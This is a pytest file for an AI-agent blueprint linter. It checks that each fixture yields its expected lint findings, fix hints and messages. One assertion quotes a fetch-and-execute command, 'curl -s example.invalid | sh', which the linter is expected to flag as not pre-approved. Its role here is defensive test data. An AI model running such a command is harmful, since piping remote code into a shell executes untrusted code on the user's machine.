"""Every lint code of spec/blueprint.md §10, one fixture blueprint each (tests/fixtures/lints)."""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest
from support import FIXTURES

from lev_nb.blueprint import LintEnv, load
from lev_nb.blueprint.lints import ALL_CODES, lint
from lev_nb.scripting.checks import validate

LINTS = FIXTURES / "lints"
LINT_DIRS = sorted(p for p in LINTS.iterdir() if (p / "agent.leviath").is_file())


def _header(path: Path) -> tuple[list[tuple[str, str, str | None]], dict[str, str]]:
    """Read the ``# expect: code severity stage`` and ``# env: k=v`` lines of a fixture."""
    expects: list[tuple[str, str, str | None]] = []
    env: dict[str, str] = {}
    for line in path.read_text().splitlines():
        if line.startswith("# expect:"):
            parts = line.split(":", 1)[1].split()
            if parts != ["nothing"]:
                code, severity, stage = parts
                expects.append((code, severity, None if stage == "-" else stage))
        elif line.startswith("# env:"):
            key, _, value = line.split(":", 1)[1].strip().partition("=")
            env[key] = value
    return expects, env


def _env_for(bp, spec: dict[str, str]) -> LintEnv:
    env = LintEnv.for_blueprint(bp)
    changes: dict = {}
    if "providers" in spec:
        changes["available_providers"] = frozenset(spec["providers"].split(","))
    if spec.get("read_paths") == "deny":
        changes["read_path_granted"] = lambda entry: False
    if "read_paths_grant_error" in spec:
        changes["read_paths_grant_error"] = spec["read_paths_grant_error"]
    if spec.get("permissions") == "default":  # the configuration says nothing: the built-in defaults cap
        from lev_nb.blueprint.lints_own import default_policy

        changes["permission_ceiling"] = default_policy
    if "unavailable" in spec:
        changes["unavailable_tools"] = {name: "no search engine: set BRAVE_API_KEY" for name in spec["unavailable"].split(",")}
    return LintEnv(**{**env.__dict__, **changes})


@pytest.mark.parametrize("folder", LINT_DIRS, ids=[p.name for p in LINT_DIRS])
def test_lint_fixture_gives_exactly_its_findings(folder: Path) -> None:
    expects, env_spec = _header(folder / "agent.leviath")
    bp = load(folder)
    report = validate(bp, env=_env_for(bp, env_spec))
    assert report.error is None, report.error
    got = Counter((f.code, f.severity, f.stage) for f in report.findings)
    assert got == Counter(expects)


def test_every_lint_code_has_a_fixture_or_a_direct_test() -> None:
    covered = set()
    for folder in LINT_DIRS:
        covered |= {code for code, _, _ in _header(folder / "agent.leviath")[0]}
    covered.add("output-missing-submit-tool")  # unreachable through validate; see the direct test below
    covered.add("taint-tracking-invalid")  # the JSON schema refuses its fixture: tests/taint tests it
    assert covered == set(ALL_CODES)
    assert len(ALL_CODES) == 44


def test_output_missing_submit_tool_on_a_blueprint_that_skipped_the_hard_checks() -> None:
    bp = load(LINTS / "clean")
    work = bp.stages["work"].model_copy(update={"require_output": True})
    broken = bp.model_copy(update={"stages": {**bp.stages, "work": work}})
    findings = [f for f in lint(broken) if f.code == "output-missing-submit-tool"]
    assert [(f.severity, f.stage) for f in findings] == [("error", "work")]


def test_findings_are_sorted_errors_warnings_notes() -> None:
    report = validate(LINTS / "unparseable-safe-command")
    assert [f.severity for f in report.findings] == ["error", "note"]
    assert report.valid is False and report.errors == 1 and report.notes == 1


def test_command_seed_note_says_which_commands_are_pre_approved() -> None:
    (note,) = validate(LINTS / "command-seed").by_code("command-seed")
    assert "repo_files: git ls-files (pre-approved)" in note.message
    assert "remote: curl -s example.invalid | sh (NOT pre-approved" in note.message
    assert note.message.startswith("2 region(s)")


def test_tool_seed_note_lists_tools_and_refresh() -> None:
    (note,) = validate(LINTS / "tool-seed").by_code("tool-seed")
    assert "environment: current_time, locale_info" in note.message
    assert "clock: current_time (on every stage entry)" in note.message


def test_unbounded_budget_names_the_largest_window_and_resolved_tokens() -> None:
    report = validate(LINTS / "unbounded-percentage-budget")
    (finding,) = report.by_code("unbounded-percentage-budget")
    assert "region 'conversation'" in finding.message
    assert "200,000 tokens on anthropic/claude-sonnet-4-6 (1,000,000 window)" in finding.message


def test_unknown_tool_knows_the_agents_own_script_tools() -> None:
    report = validate(LINTS / "unknown-tool")
    assert [f.message.split("'")[1] for f in report.by_code("unknown-tool")] == ["web_serch"]


def test_unknown_tool_is_skipped_with_an_empty_known_tool_set() -> None:
    bp = load(LINTS / "unknown-tool")
    assert validate(bp, env=LintEnv()).by_code("unknown-tool") == []


def test_every_finding_carries_a_fix() -> None:
    for folder in LINT_DIRS:
        for f in validate(folder).findings:
            assert f.fix, (folder.name, f.code)


def test_implicit_shell_policy_says_what_happens_with_nobody_to_ask():
    # It said an unattended run "waits for an approval"; lev_nb denies the call then.
    bp = load(LINTS / "implicit-shell-policy")
    [finding] = [f for f in lint(bp, LintEnv.for_blueprint(bp)) if f.code == "implicit-shell-policy"]
    assert "waits" not in finding.message and "denied" in finding.message
    assert "--allow shell" in (finding.fix or "")


def test_a_misspelt_provider_gets_a_did_you_mean_in_the_fix() -> None:
    bp = load('[agent]\nname = "t"\n[stages.work]\nmode = "autonomous"\nmax_iterations = 3\n'
              'model = { models = [{ provider = "antropic", model = "claude-sonnet-4-6" }, '
              '{ provider = "acme-llm", model = "m" }] }\n[stages.work.transitions]\n')
    env = LintEnv(**{**LintEnv.for_blueprint(bp).__dict__, "available_providers": frozenset({"openai"})})
    [finding] = [f for f in validate(bp, env=env).findings if f.code == "no-reachable-provider"]
    assert finding.fix is not None
    assert finding.fix.startswith("'antropic' is no provider lev_nb knows (did you mean 'anthropic'?); else configure")
    assert "acme-llm" not in finding.fix  # a provider of the user's own, nothing close: no guess
